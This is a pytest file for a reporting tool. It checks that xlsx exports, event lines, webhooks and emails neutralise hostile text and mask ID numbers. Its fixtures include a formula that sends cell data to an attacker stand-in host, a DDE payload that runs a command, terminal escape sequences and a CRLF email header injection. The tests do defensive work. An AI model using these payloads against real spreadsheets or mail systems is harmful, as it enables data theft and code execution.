"""Reports and notifications with hostile text in them (issue 8 §3, §4): no formula cell, no
full ID number, no forged line, valid JSON."""

from __future__ import annotations

import datetime as dt
import io
import json
import urllib.request
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sgz_adapters import plugins
from sgz_adapters.default_notifiers import event_line, event_record
from sgz_adapters.default_reporters import safe_cell
from sgz_adapters.output import UNSAFE
from sgz_adapters.pii import ID_NUMBER, folded
from sgz_core.disbursement import Tranche
from sgz_core.enums import Milestone, Severity, TrancheStatus
from sgz_core.errors import InvalidInput
from sgz_core.findings import Finding
from sgz_core.ports import Report

ID = "110101199001011237"
MASKED = "1101**********1237"
ON = dt.date(2025, 1, 1)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # a full-width equals sign
    "=cmd|' /C calc'!A0",
]


def _tranche(station: str) -> Tranche:
    return Tranche(
        station,
        1,
        Milestone.CONTRACT_SIGNED,
        Decimal("0.30"),
        Decimal("-45000.00"),
        TrancheStatus.PENDING,
        ON,
    )


def _report(text: str) -> Report:
    finding = Finding("LOCAL-1", Severity.ERROR, text, 1, text, text)
    return Report(text, text, ON, (finding,), (_tranche(text),))


def _sheet_cells(data: bytes) -> list[Any]:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", FORMULAS)
def test_xlsx_cells_never_become_formulas(text: str) -> None:
    pytest.importorskip("xlsxwriter")
    cells = _sheet_cells(plugins.make_reporter("xlsx").render(_report(text)))
    assert cells
    for cell in cells:
        assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "@", "＝")), cell.value
    values = {cell.value for cell in cells}
    shown = [v for v in values if isinstance(v, str) and v.startswith("'")]
    assert shown and all(text.strip() in v for v in shown)  # shown, neutralised, not lost
    assert "-45000.00" in values  # a plain negative number is left as it is


@settings(max_examples=25, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.one_of(
            st.sampled_from([*FORMULAS, ID, "[draft]", "\x1b[2J", "\u202e"]), st.text(max_size=5)
        ),
        max_size=5,
    ).map("".join)
)
def test_xlsx_has_no_formula_and_no_full_id_number(text: str) -> None:
    pytest.importorskip("xlsxwriter")
    for cell in _sheet_cells(plugins.make_reporter("xlsx").render(_report(text))):
        assert cell.data_type != "f"
        assert not ID_NUMBER.search(folded(str(cell.value)))


def test_safe_cell() -> None:
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("-0.50") == "-0.50"
    assert safe_cell(f"-{ID}") == f"'-{MASKED}"
    assert safe_cell("zhengning") == "zhengning"


HOSTILE_EVENT = f"[/bold]\x1b]0;pwned\x07\nFakeEvent station=x {ID}\u202e"


def test_event_lines_cannot_forge_a_line_or_drive_a_terminal() -> None:
    line = event_line(HOSTILE_EVENT)
    assert "\n" not in line and not UNSAFE.search(line)
    assert ID not in line and MASKED in line and "[/bold]" in line


def test_the_webhook_sends_valid_json_with_the_text_masked(monkeypatch: pytest.MonkeyPatch) -> None:
    sent: list[bytes] = []

    class Response(io.BytesIO):
        def __enter__(self) -> Response:
            return self

        def __exit__(self, *exc: object) -> None:
            return None

    def open_url(
        opener: urllib.request.OpenerDirector, request: urllib.request.Request, timeout: float
    ) -> Response:
        assert isinstance(request.data, bytes)
        sent.append(request.data)
        return Response(b"")

    monkeypatch.setattr(urllib.request.OpenerDirector, "open", open_url)
    finding = Finding("LOCAL-1", Severity.WARNING, HOSTILE_EVENT, 1, HOSTILE_EVENT, "en")
    plugins.make_notifier("webhook", {"url": "http://127.0.0.1:9/hook"}).notify(
        [HOSTILE_EVENT, finding]
    )
    (body,) = sent
    assert ID.encode() not in body
    events = json.loads(body)["events"]
    assert events[0]["text"] == HOSTILE_EVENT.replace(ID, MASKED)
    assert events[1]["station"] == HOSTILE_EVENT.replace(ID, MASKED)
    assert event_record(finding)["message"] == events[1]["message"]


def test_the_email_is_one_line_per_event_and_masked() -> None:
    notifier = plugins.make_notifier("email", {"to": "a@example.org"})
    msg = notifier.message([HOSTILE_EVENT, HOSTILE_EVENT])  # type: ignore[attr-defined]
    body = msg.get_content()
    assert body.count("\n") == 2 and ID not in body and not UNSAFE.search(body)
    assert msg["Subject"] == "sgz: 2 event(s)"


@pytest.mark.parametrize("key", ["to", "from", "subject"])
def test_email_settings_cannot_forge_a_header(key: str) -> None:
    settings = {"to": "a@example.org", key: "x@example.org\r\nBcc: everyone@example.org"}
    with pytest.raises(InvalidInput, match=rf"notifier email: {key}: expected one line"):
        plugins.make_notifier("email", settings)
